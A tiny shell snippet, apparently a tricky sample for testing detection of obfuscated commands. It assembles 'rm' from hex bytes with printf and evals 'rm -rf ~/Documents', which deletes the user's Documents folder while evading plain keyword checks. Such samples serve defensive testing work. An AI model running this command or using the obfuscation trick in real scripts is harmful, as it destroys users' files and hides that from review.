# tricky: bytes put together by printf
cmd=$(printf '\\x%s' 72 6d)
eval "$(printf "$cmd") -rf ~/Documents"
